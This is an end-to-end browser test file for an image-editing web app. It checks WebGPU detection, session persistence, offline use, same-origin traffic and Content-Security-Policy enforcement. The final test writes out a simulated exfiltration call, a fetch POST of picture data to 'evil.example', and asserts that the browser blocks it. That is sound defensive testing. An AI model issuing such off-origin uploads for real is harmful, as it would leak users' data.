/** The app shell in real Chromium: WebGPU adapter, worker, persistence across reload, offline, no off-origin traffic. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { encodePng } from '../../scripts/lib/png.ts';
import { EXAMPLES } from '../../src/domains/shapes-v1/examples.ts';
import { renderSceneRgba } from '../../src/domains/shapes-v1/raster.ts';
import { launchChromium, serveStatic, type StaticSite } from './harness.ts';

let site: StaticSite;
let browser: Browser;
let context: BrowserContext;
let page: Page;
const offOrigin: string[] = [];
const cspViolations: string[] = [];

/** A picked picture of a scene Parley can edit (a rendered example, as a user's exported picture would be). */
function scenePng(): Buffer {
  return encodePng({ width: 64, height: 64, data: renderSceneRgba(EXAMPLES[0]!.scene) });
}

beforeAll(async () => {
  site = await serveStatic('dist', '/apps/parley/');
  browser = await launchChromium();
  context = await browser.newContext();
  context.on('request', (r) => {
    const url = r.url();
    if (!url.startsWith(site.url) && !url.startsWith('blob:') && !url.startsWith('data:')) offOrigin.push(url);
  });
  page = await context.newPage();
  page.on('console', (m) => void (/Content Security Policy/i.test(m.text()) && cspViolations.push(m.text())));
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
});

describe('app shell', () => {
  it('loads from a sub-path, and the worker reports a WebGPU adapter', async () => {
    await page.goto(site.url);
    const adapter = page.getByTestId('adapter');
    await expect.poll(async () => (await adapter.textContent()) ?? '', { timeout: 60_000 }).toMatch(/swiftshader|nvidia|amd|intel|apple|google/i);
    expect(await page.getByTestId('backend').getAttribute('data-backend')).toBeDefined();
    expect(await page.evaluate(() => !!navigator.gpu)).toBe(true);
  });

  it('keeps a session and a turn across a reload', async () => {
    await page.getByTestId('file-input').setInputFiles({ name: 'scene.png', mimeType: 'image/png', buffer: scenePng() });
    // Starting a session reads the picture with the pack's recognizer, so it waits for the pack to load.
    await page.getByTestId('current-image').waitFor({ timeout: 240_000 });
    await page.getByTestId('say').fill('make the circle red');
    await page.getByTestId('say').press('Enter');
    await page.locator('[data-testid="turns"] li').first().waitFor();
    const before = await page.locator('[data-testid="turns"] li .user').allTextContents();
    await page.reload();
    await page.getByTestId('current-image').waitFor({ timeout: 60_000 });
    expect(await page.locator('[data-testid="turns"] li .user').allTextContents()).toEqual(before);
    expect(before).toEqual(['make the circle red']);
  });

  it('tells the user clearly when a file is not an image', async () => {
    await page.getByTestId('file-input').setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('hello') });
    await expect.poll(() => page.getByTestId('error').textContent()).toMatch(/not an image/);
  });

  it('works offline after the first visit', async () => {
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    // The service worker controls the page only after the next navigation.
    await page.reload();
    await expect.poll(() => page.evaluate(() => !!navigator.serviceWorker.controller), { timeout: 30_000 }).toBe(true);
    await context.setOffline(true);
    await page.reload();
    await page.getByTestId('current-image').waitFor({ timeout: 60_000 });
    const adapter = page.getByTestId('adapter');
    await expect.poll(async () => (await adapter.textContent()) ?? '', { timeout: 60_000 }).not.toBe('');
    await context.setOffline(false);
  });

  it('never sends a request off the origin', () => {
    expect(offOrigin).toEqual([]);
    expect(site.requests.length).toBeGreaterThan(3);
  });

  it('runs under a Content-Security-Policy that allows only its own origin, without breaking it', async () => {
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toMatch(/script-src 'self' 'wasm-unsafe-eval'/);
    expect(csp).toMatch(/connect-src 'self'/);
    expect(cspViolations).toEqual([]);
    // A script trying to send a picture elsewhere is stopped by the browser.
    const sent = await page.evaluate(() => fetch('https://evil.example/upload', { method: 'POST', body: 'pixels' }).then(() => 'sent', (e) => String(e)));
    expect(sent).toMatch(/Failed to fetch|TypeError/);
    expect(cspViolations.some((v) => v.includes('evil.example'))).toBe(true);
  });
});
